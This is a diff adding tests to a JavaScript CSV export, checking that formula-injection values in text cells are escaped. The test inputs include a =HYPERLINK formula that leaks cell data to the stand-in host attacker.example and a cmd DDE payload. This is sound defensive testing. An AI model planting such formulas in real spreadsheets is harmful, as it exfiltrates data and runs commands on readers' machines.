@@ -18,6 +18,28 @@ describe('csvField', () => {
   });
 });
 
+describe('CSV exports put =HYPERLINK(...) from a carrier name or SKU category into a cell', () => {
+  it.each([
+    [
+      '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
+      `"'=HYPERLINK(""http://attacker.example/?x=""&A1,""Click"")"`,
+    ],
+    ['+1+1', "'+1+1"],
+    ['-2+3+cmd|" /C calc"!A0', `"'-2+3+cmd|"" /C calc""!A0"`],
+    ['@SUM(1+1)', "'@SUM(1+1)"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', `"'\r=1+1"`],
+  ])('neutralises the text cell %j as %j', (value, written) => expect(csvField(value)).toBe(written));
+
+  it('leaves numbers, dates and ordinary text alone (a negative number the hub computed stays a number)', () => {
+    expect(csvField(-12.5)).toBe('-12.5');
+    expect(csvField(0)).toBe('0');
+    expect(csvField(new Date('2026-11-20T18:00:00Z'))).toBe('2026-11-20T18:00:00.000Z');
+    expect(csvField('UPS')).toBe('UPS');
+    expect(csvField('a=b')).toBe('a=b');
+  });
+});
+
 describe('toCsv', () => {
   it('writes a header and one CRLF-terminated line per row', () => {
     expect(
